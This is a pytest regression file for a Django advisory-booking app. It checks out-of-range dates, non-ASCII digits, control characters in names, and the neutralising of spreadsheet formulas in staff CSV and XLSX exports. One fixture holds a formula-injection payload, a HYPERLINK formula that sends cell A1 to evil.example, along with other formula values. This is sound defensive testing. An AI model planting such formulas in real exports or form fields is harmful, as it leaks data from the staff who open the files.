"""Regressions of issue 11 on the advisory point: out-of-range dates, digits that are not ASCII,
control characters in names, and formulas in the staff exports."""

from datetime import timedelta

import pytest

from advisory.models import Booking
from advisory.services import booking_create
from advisory.slots import WARSAW
from advisory.views import format_start
from tests.advisory.conftest import booking_data
from tests.advisory.factories import at
from tests.home.spreadsheets import csv_dicts, csv_rows, dangerous_cells, xlsx_dicts, xlsx_sheet

pytestmark = pytest.mark.django_db

BOOKINGS = "/admin/advisory/booking/"
OUT_OF_RANGE = ["99991231T235959Z", "00010101T000000Z", "18991231T235959Z"]


def book_url(page, topic):
    return f"{page.url}temat/{topic.slug}/rezerwacja/"


@pytest.mark.parametrize("start", OUT_OF_RANGE)
def test_an_out_of_range_start_leads_back_to_the_week_of_free_times(
    client, advisory_page, topic, advisor, start
):
    week_url = f"{advisory_page.url}temat/{topic.slug}/"
    response = client.get(book_url(advisory_page, topic) + f"?start={start}")
    assert response.status_code == 302 and response["Location"] == week_url
    posted = client.post(
        book_url(advisory_page, topic) + f"?start={start}", {**booking_data(), "consent": "on"}
    )
    assert posted.status_code == 302 and posted["Location"] == week_url
    assert not Booking.objects.exists()


@pytest.mark.parametrize("week", ["9999-12-31", "0001-01-01", "2026-02-30", "２０２６-11-30"])
def test_an_out_of_range_week_shows_the_first_bookable_week(
    client, advisory_page, topic, advisor, week
):
    response = client.get(f"{advisory_page.url}temat/{topic.slug}/?week={week}")
    assert response.status_code == 200
    assert "Wolne terminy od" in response.text


@pytest.mark.parametrize("week", ["9999-12-31", "0001-01-01", "2199-12-31"])
def test_the_staff_calendar_shows_this_week_for_an_out_of_range_week(admin_client, week):
    response = admin_client.get(f"/admin/advisory/calendar/?week={week}")
    assert response.status_code == 200


@pytest.mark.parametrize("advisor_id", ["²", "①", "٣", "1" * 5000, "-1"])
def test_an_advisor_that_is_not_an_ascii_number_means_any_advisor(
    client, advisory_page, topic, advisor, day, advisor_id
):
    week = client.get(f"{advisory_page.url}temat/{topic.slug}/", {"advisor": advisor_id})
    assert week.status_code == 200
    assert "Anna Doradczyni" not in week.context["chosen_advisor"].__class__.__name__
    assert week.context["chosen_advisor"] is None
    form = client.get(
        book_url(advisory_page, topic),
        {"advisor": advisor_id, "start": format_start(at(day, 9))},
    )
    assert form.status_code == 200
    assert form.context["chosen_advisor"] is None


def test_the_booking_form_turns_control_characters_in_a_name_into_spaces(
    client, advisory_page, topic, advisor, day
):
    url = book_url(advisory_page, topic) + f"?start={format_start(at(day, 9))}"
    data = booking_data(contact_name="Jan\x0bKowalski", organization_name="Fundacja\x00 Zielona")
    response = client.post(url, {**data, "consent": "on"})
    assert response.status_code == 302
    booking = Booking.objects.get()
    assert booking.contact_name == "Jan Kowalski"
    assert booking.organization_name == "Fundacja Zielona"


@pytest.fixture
def hostile_booking(topic, advisor, day, home_page):
    """A public booking whose fields are formulas, and a contact name with a vertical tab as
    older rows may still hold (written past the form, as before the fix)."""
    booking = booking_create(
        topic=topic,
        advisor=advisor,
        starts_at=at(day, 9),
        **booking_data(
            organization_name='=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
            krs="",
            phone="+48 12 345 67 89",
            question="-2+3",
        ),
    )
    Booking.objects.filter(pk=booking.pk).update(contact_name="@SUM(1+1)\x0bKowalski")
    return booking


def test_the_bookings_csv_neutralises_formulas_in_polish_and_warsaw_time(
    admin_client, hostile_booking
):
    response = admin_client.get(f"{BOOKINGS}?export=csv")
    assert response.status_code == 200
    assert not dangerous_cells(csv_rows(response))
    [cells] = csv_dicts(response)
    assert cells["Organizacja"].startswith("'=HYPERLINK(")
    assert cells["Osoba kontaktowa"] == "'@SUM(1+1) Kowalski"
    assert cells["Telefon"] == "'+48 12 345 67 89"
    assert cells["Status"] == "potwierdzona"
    local = hostile_booking.starts_at.astimezone(WARSAW)
    assert cells["Początek"] == local.strftime("%Y-%m-%d %H:%M")


def test_the_bookings_xlsx_opens_with_control_characters_and_keeps_formulas_as_text(
    admin_client, hostile_booking
):
    response = admin_client.get(f"{BOOKINGS}?export=xlsx")
    assert response.status_code == 200
    [cells] = xlsx_dicts(response)
    assert cells["Osoba kontaktowa"] == "@SUM(1+1) Kowalski"
    assert cells["Organizacja"].startswith("=HYPERLINK(")
    assert xlsx_sheet(response)["G2"].data_type == "s"  # text, not a formula
    assert cells["Początek"] == hostile_booking.starts_at.astimezone(WARSAW).replace(tzinfo=None)


def test_the_statistics_csv_neutralises_a_topic_named_like_a_formula(
    admin_client, hostile_booking, topic
):
    topic.name = "=1+1"
    topic.save()
    response = admin_client.get("/admin/advisory/statistics/?format=csv")
    header, row = csv_rows(response)
    assert header[:2] == ["Miesiąc", "Temat"]
    assert row[1] == "'=1+1"
    assert row[2] == "1"


def test_staff_cannot_book_a_date_out_of_range(admin_client, topic, advisor):
    response = admin_client.post(
        "/admin/advisory/book/",
        {
            "topic": topic.pk,
            "starts_at": "9999-12-31T23:00",
            **booking_data(),
            "consent": "on",
        },
    )
    assert response.status_code == 200
    assert "Wybierz datę między 1900 a 2199 rokiem." in response.text


def test_the_next_week_link_of_the_last_calendar_week_does_not_break(admin_client):
    response = admin_client.get("/admin/advisory/calendar/?week=2199-12-30")
    assert response.status_code == 200
    following = (response.context["monday"] + timedelta(days=7)).isoformat()
    assert admin_client.get(f"/admin/advisory/calendar/?week={following}").status_code == 200
